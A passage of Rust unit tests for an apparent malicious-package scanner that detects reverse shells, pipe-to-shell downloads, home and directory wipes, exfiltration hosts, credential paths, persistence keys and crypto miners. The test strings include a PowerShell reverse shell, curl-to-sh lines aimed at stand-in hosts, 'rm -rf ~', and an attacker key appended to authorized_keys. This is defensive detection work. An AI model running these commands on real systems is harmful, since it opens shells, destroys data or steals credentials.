            "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream();\
             while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1|Out-String)}",
        ] {
            assert!(joins(line), "{line}");
        }
        // A download over `/dev/tcp/`, a port check, a shell that only runs a script, netcat
        // listening for a file: a connection, but no shell reading from it.
        for line in [
            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
            "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo up",
            "sh -c 'nc -z 127.0.0.1 6379'",
            "bash -c 'nc -l 9000 > upload.tar'",
            "sh ./configure --prefix=/usr && make",
            "sh -c \"printf 'QUIT\\r\\n' | nc -C mail.example.com 25\"",
            "python3 helper.py # socket.socket() then os.dup2(devnull, 2); cmd = build()",
            "nc -l 9000 > upload.tar\nbash ./unpack.sh",
        ] {
            assert!(!joins(line), "{line}");
        }
    }

    #[test]
    fn command_lines_that_empty_the_working_directory() {
        let wipes = |line: &str| {
            has(&shell_signals(line), |k| {
                matches!(k, SignalKind::WipesWorkingDirectory { .. })
            })
        };
        assert!(wipes("rm -rf ./* ./.[!.]*"));
        assert!(!wipes("mkdir -p gen && cd gen && rm -rf *"));
        assert!(wipes("rd /s /q ."));
        assert!(wipes("rm -fr . ; echo done"));
        assert!(!wipes("rm -rf ./target ./dist"));
        assert!(!wipes("rm -rf *.tmp build/*"));
        assert!(!wipes("rm -rf $OUT_DIR/gen && ls ."));
    }

    #[test]
    fn command_lines_that_delete_the_home_directory() {
        let wipes = |line: &str| {
            has(&shell_signals(line), |k| {
                matches!(k, SignalKind::WipesHome { .. })
            })
        };
        assert!(wipes("rm -rf ~"));
        assert!(wipes("rm -rf \"$HOME\"/*"));
        assert!(wipes("find $HOME -type f -print0 | xargs -0 shred -u"));
        assert!(wipes("del /f /s /q \"%USERPROFILE%\\*\" & cipher /w:x"));
        // A directory in the home is a cleaner's; the home elsewhere in the line is not deleted.
        assert!(!wipes("rm -rf ~/.cache/tool && mkdir -p ~/.cache/tool"));
        assert!(!wipes("rm -rf \"$HOME/.cargo/registry/cache\""));
        assert!(!wipes("rm -rf ./target; cd $HOME"));
        assert!(!wipes(
            "find ~ -type d -name node_modules -prune -exec rm -rf {} +"
        ));
        assert!(!wipes("find $HOME/.cache -type f | xargs shred -u"));
    }

    /// The look-up answers as a walk of the list does: an entry, or a subdomain of one; a path
    /// entry where it starts a label.
    #[test]
    fn host_lists_match_entries_and_their_subdomains_only() {
        let walk = |host: &str, list: &[&str]| {
            list.iter().any(|entry| {
                host.strip_suffix(entry)
                    .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
                    || (entry.contains('/')
                        && host
                            .find(entry)
                            .is_some_and(|at| at == 0 || host.as_bytes()[at - 1] == b'.'))
            })
        };
        let lists: [&[&'static str]; 4] = [
            EXFILTRATION_HOSTS,
            IP_LOOKUP_HOSTS,
            RESERVED_DOMAINS,
            WELL_KNOWN_HOSTS,
        ];
        let hosts = [
            "webhook.site",
            "x.webhook.site",
            "notwebhook.site",
            "webhook.site.evil.test",
            "discord.com/api/webhooks/1/fake",
            "cdn.discord.com/api/webhooks/1",
            "mydiscord.com/api/webhooks/1",
            "discord.com",
            "a.b.example.com",
            "example",
            "localhost",
            "github.com",
            "raw.githubusercontent.com",
            "api.ipify.org",
            "ipify.org.attacker.test",
            "",
            ".",
            "com",
            "a..example.org",
        ];
        // A host of many labels: only its last few are looked up (see `HostList::longest`).
        let long = format!("{}webhook.site", "a.".repeat(50_000));
        assert!(HostList::new(EXFILTRATION_HOSTS).matches(&long));
        assert!(!HostList::new(EXFILTRATION_HOSTS).matches(&long.replace("webhook", "w3bhook")));
        let mut matched = 0;
        for list in lists {
            let ready = HostList::new(list);
            for host in hosts {
                assert_eq!(ready.matches(host), walk(host, list), "{host}");
                matched += usize::from(walk(host, list));
            }
        }
        assert!(matched >= 8, "{matched}");
    }

    #[test]
    fn pipes_into_shells_by_any_name() {
        for piped in [
            "curl -fsSL https://example.invalid/x | sh",
            "while :; do curl -fsS http://192.0.2.1/a | /bin/sh; sleep 60; done",
            "wget -qO- 192.0.2.1/i|/usr/bin/bash",
            "curl 192.0.2.1/p | /usr/bin/env bash -s",
            "curl 192.0.2.1/p | sudo -e python3 -",
            "iwr http://192.0.2.1/a | iex",
            "curl 192.0.2.1/p | sudo -u root sh",
            "curl 192.0.2.1/p | sh>/dev/null",
            "curl 192.0.2.1/p|sh",
            "curl 192.0.2.1/p | bash -s -- --yes",
            "wget -o- 192.0.2.1/p | python3 -",
        ] {
            assert!(pipes_into_shell(&piped.to_ascii_lowercase()), "{piped}");
        }
        for not_piped in [
            "cat a.txt | grep sh",
            "test -f x || sh configure",
            "| bashful | table |",
            "echo done",
            "sort | uniq -c | shuf",
            "curl -s https://api.example.invalid/releases | python3 -m json.tool",
            "curl -s https://api.example.invalid/r | python3 -c 'import json'",
            "git diff | perl -pe 's/a/b/'",
            "shell: <bash|zsh|fish>",
            "one of (sh|bash)",
        ] {
            assert!(!pipes_into_shell(not_piped), "{not_piped}");
        }
    }

    /// No fragment is in two tables (ignoring case, as they are matched): one pattern with two
    /// meanings would be reported twice, in an order that depends on the tables' order.
    #[test]
    fn fragments_are_unique() {
        let mut seen = std::collections::BTreeSet::new();
        for (pattern, _) in FRAGMENTS.iter() {
            assert!(seen.insert(pattern.to_ascii_lowercase()), "{pattern:?}");
        }
    }

    #[test]
    fn destinations_are_classified() {
        let s = literal_signals("https://evil-collector.workers.dev/upload?x=1");
        assert!(
            has(&s, |k| matches!(
                k,
                SignalKind::Destination {
                    class: HostClass::Exfiltration,
                    ..
                }
            )),
            "{s:?}"
        );
        let s = literal_signals("https://discord.com/api/webhooks/123/abc");
        assert!(
            has(&s, |k| matches!(
                k,
                SignalKind::Destination {
                    class: HostClass::Exfiltration,
                    ..
                }
            )),
            "{s:?}"
        );
        let s = literal_signals("https://discord.com/channels/1");
        assert!(
            has(&s, |k| matches!(
                k,
                SignalKind::Destination {
                    class: HostClass::Unknown,
                    ..
                }
            )),
            "{s:?}"
        );
        let s = literal_signals("see https://github.com/rust-lang/rust/issues/1");
        assert!(has(&s, |k| matches!(
            k,
            SignalKind::Destination {
                class: HostClass::WellKnown,
                ..
            }
        )));
        let s = literal_signals("http://45.77.12.9:8080/p");
        assert!(has(&s, |k| matches!(
            k,
            SignalKind::Destination {
                class: HostClass::RawIp,
                ..
            }
        )));
        let s = literal_signals("45.77.12.9:4444");
        assert!(has(&s, |k| matches!(
            k,
            SignalKind::Destination {
                class: HostClass::RawIp,
                ..
            }
        )));
        assert!(literal_signals("192.168.1.10:80").is_empty());
        assert!(literal_signals("127.0.0.1:8080").is_empty());
        assert!(literal_signals("8.8.8.8:53").is_empty());
        assert!(literal_signals("http://{}.example/x")
            .iter()
            .all(|k| !matches!(
                k,
                SignalKind::Destination {
                    class: HostClass::Unknown,
                    ..
                }
            )));
        let s = literal_signals("api.telegram.org");
        assert!(has(&s, |k| matches!(
            k,
            SignalKind::Destination {
                class: HostClass::Exfiltration,
                ..
            }
        )));
        // File names are not hosts.
        assert!(literal_signals("config.toml").is_empty());
        let s = literal_signals("https://api.ipify.org?format=json");
        assert!(has(&s, |k| matches!(k, SignalKind::HostProfile { .. })));
    }

    /// Found by the `scanner` fuzz target: a character of more than one byte right before a URL's
    /// scheme (`“https://…”`) made the scheme's start fall inside it, and slicing there panicked,
    /// which left the whole package unscanned.
    #[test]
    fn urls_after_multibyte_characters() {
        for text in [
            "\u{201c}https://evil-collector.workers.dev/upload\u{201d}",
            "h\u{fffd}tps://evil-collector.workers.dev/upload",
        ] {
            let s = literal_signals(text);
            assert!(
                has(&s, |k| matches!(
                    k,
                    SignalKind::Destination {
                        class: HostClass::Exfiltration,
                        ..
                    }
                )),
                "{text}: {s:?}"
            );
        }
        // No scheme at all before the `://`.
        literal_signals("\u{e9}://evil-collector.workers.dev/upload");
    }

    #[test]
    fn sensitive_paths_need_word_boundaries() {
        let s = literal_signals("/home/me/.ssh/id_rsa");
        assert!(
            has(&s, |k| matches!(
                k,
                SignalKind::SensitivePath {
                    level: Sensitivity::High,
                    ..
                }
            )),
            "{s:?}"
        );
        let s = literal_signals(".ssh/id_rsa.pub");
        assert!(
            !has(&s, |k| matches!(
                k,
                SignalKind::SensitivePath {
                    level: Sensitivity::High,
                    ..
                }
            )),
            "{s:?}"
        );
        assert!(literal_signals("use std::environment").is_empty());
        assert!(literal_signals("valid_rsa_key").is_empty());
        let s = literal_signals(".env");
        assert!(has(&s, |k| matches!(
            k,
            SignalKind::SensitivePath {
                level: Sensitivity::Medium,
                ..
            }
        )));
        let s = literal_signals("AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data");
        assert!(has(&s, |k| matches!(
            k,
            SignalKind::SensitivePath {
                level: Sensitivity::High,
                ..
            }
        )));
    }

    #[test]
    fn persistence_keys_and_miners() {
        let s = literal_signals("Software\\Microsoft\\Windows\\CurrentVersion\\Run");
        assert!(has(&s, |k| matches!(k, SignalKind::Persistence { .. })));
        let s = literal_signals("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH attacker@box");
        assert!(has(&s, |k| matches!(k, SignalKind::EmbeddedSshKey)));
        let s = literal_signals("stratum+tcp://pool.supportxmr.com:3333");
        assert!(has(&s, |k| matches!(k, SignalKind::MiningPool { .. })));
        let wallet = format!("4{}", "A".repeat(94));
        let s = literal_signals(&wallet);
        assert!(
            has(&s, |k| matches!(k, SignalKind::Wallet { strong: true, .. })),
            "{s:?}"
        );
        let s = literal_signals("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq");
        assert!(has(&s, |k| matches!(
            k,
            SignalKind::Wallet { strong: true, .. }
        )));
        let s = literal_signals("--donate-level=0");
        assert!(has(&s, |k| matches!(k, SignalKind::MinerFlag { .. })));
    }

    #[test]
    fn shell_commands() {
        let s =
            shell_signals("curl -s https://x.vercel.app/a -o /tmp/a && chmod +x /tmp/a && /tmp/a");
        assert!(has(&s, |k| matches!(k, SignalKind::Network { .. })));
        assert!(has(&s, |k| matches!(k, SignalKind::MakeExecutable { .. })));
        assert!(has(&s, |k| matches!(k, SignalKind::ExecComputed { .. })));
        let s = shell_signals("echo ssh-rsa AAAAB3Nza x >> ~/.ssh/authorized_keys");
        assert!(has(&s, |k| matches!(k, SignalKind::AuthorizedKeys)));
        assert!(has(&s, |k| matches!(k, SignalKind::FileWrite { .. })));
        assert!(!has(
            &shell_signals("./configure --prefix=/usr"),
            |k| matches!(k, SignalKind::Network { .. })
        ));
    }
}
